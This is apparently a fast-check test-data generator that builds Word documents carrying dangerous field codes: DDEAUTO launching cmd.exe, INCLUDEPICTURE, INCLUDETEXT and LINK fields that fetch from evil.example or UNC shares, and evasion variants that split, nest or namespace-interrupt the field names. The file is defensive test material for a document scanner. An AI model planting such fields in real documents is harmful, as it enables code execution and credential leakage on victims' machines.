import fc from 'fast-check'
import { WORD_NAMESPACE, wordFile } from './word-files.ts'

const CODES = [
  'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
  'DDE excel a b',
  ' dde "a" ',
  'INCLUDETEXT "https://evil.example/a"',
  'IMPORT a',
  'QUOTE 68 68 69',
  'LINK Excel.Sheet.8 "\\\\10.0.0.1\\share\\a.xls" "" \\a',
  'DATABASE \\d "c:\\a.mdb" \\c "DSN=a"',
  'INCLUDEPICTURE "https://evil.example/a.png" \\d',
  'includepicture \\d http://evil.example/a.png',
  'INCLUDEPICTURE "\\\\10.0.0.1\\share\\a.png" \\* MERGEFORMAT',
  'INCLUDEPICTURE //10.0.0.1/share/a.png',
  'INCLUDEPICTURE "file:////10.0.0.1/share/a.png"',
  'RD "\\\\10.0.0.1\\share\\a.docx"',
  'rd https://evil.example/a.docx \\f',
]

/** A field whose code is divided into several runs, with any prefix. */
export const activeField: fc.Arbitrary<Buffer> = fc
  .record({
    code: fc.constantFrom(...CODES),
    cuts: fc.array(fc.nat(40), { maxLength: 4 }),
    isSimple: fc.boolean(),
    space: fc.constantFrom('', '\n', '<w:r><w:t>text</w:t></w:r>'),
    part: fc.constantFrom('word/document.xml', 'word/header1.xml', 'word/footnotes.dat'),
    indent: fc.constantFrom(0, 300, 100_000),
  })
  .map(({ code, cuts, isSimple, space, part, indent }) => {
    const text = code.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
    const places = [0, ...cuts.filter((cut) => cut < code.length).toSorted((a, b) => a - b), code.length]
    const pieces = places.slice(1).map((to, index) => code.slice(places[index], to).replaceAll('"', '&quot;'))
    const runs = pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join(space)
    const field = isSimple
      ? `<w:fldSimple w:instr="${text}"/>`
      : `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>`
    if (part === 'word/document.xml') return wordFile(field)
    const content = `${' '.repeat(indent)}<w:hdr xmlns:w="${WORD_NAMESPACE}">${field}</w:hdr>`
    return wordFile('<w:p/>', { name: part, content })
  })

export const fieldMark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
export const code = (text: string) => `<w:r><w:instrText>${text.replaceAll('"', '&quot;')}</w:instrText></w:r>`

/** A picture, link or database whose source is the result of a field inside of its code. */
export const nestedSource: fc.Arbitrary<Buffer> = fc
  .tuple(
    fc.constantFrom('REF address', 'DOCPROPERTY address', 'QUOTE "Excel.Sheet.8"'),
    fc.constantFrom('INCLUDEPICTURE ', 'LINK ', 'DATABASE '),
  )
  .map(([inner, outer]) => {
    const nested = `${fieldMark('begin')}${code(inner)}${fieldMark('end')}`
    return wordFile(
      `${fieldMark('begin')}${code(outer)}${nested}${code(' "\\\\10.0.0.1\\share\\a.xls" \\d')}${fieldMark('end')}`,
    )
  })

const field = (...content: readonly string[]) => `${fieldMark('begin')}${content.join('')}${fieldMark('end')}`

/** A field whose name or a part of it is the result of another field. */
export const assembledField: fc.Arbitrary<Buffer> = fc
  .tuple(
    fc.constantFrom('DDEAUTO', 'DDE', 'INCLUDETEXT', 'INCLUDEPICTURE', 'import'),
    fc.nat(10),
    fc.constantFrom('QUOTE "%"', 'quote %', 'QUOTE “%”', 'QUOTE "%" \\* Upper', 'REF a', 'DOCPROPERTY b', 'IF 1 = 1 "%"'),
    fc.constantFrom('', fieldMark('separate')),
  )
  .map(([name, cut, inner, separator]) => {
    const before = cut < name.length ? name.slice(0, cut) : ''
    const nested = field(code(inner.replace('%', () => name.slice(before.length, -1))), separator)
    return wordFile(field(code(` ${before}`), nested, code(`${name.at(-1)} https://evil.example "/k calc"`)))
  })

/** What Word does not read between two parts of a code. */
const IGNORED = [
  '<x:instrText xmlns:x="urn:x">zz</x:instrText>',
  '<x:fldChar xmlns:x="urn:x" x:fldCharType="begin"/>',
  `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">${code('zz')}</mc:AlternateContent>`,
]

/** A field whose name is interrupted by something that only a reader without namespaces takes for a part of it. */
export const interruptedField: fc.Arbitrary<Buffer> = fc
  .tuple(fc.constantFrom('DDEAUTO', 'INCLUDETEXT'), fc.integer({ min: 1, max: 6 }), fc.constantFrom(...IGNORED))
  .map(([name, cut, ignored]) => {
    const rest = `${name.slice(cut)} https://evil.example "/k calc"`
    return wordFile(field(code(name.slice(0, cut)), ignored, code(rest)))
  })
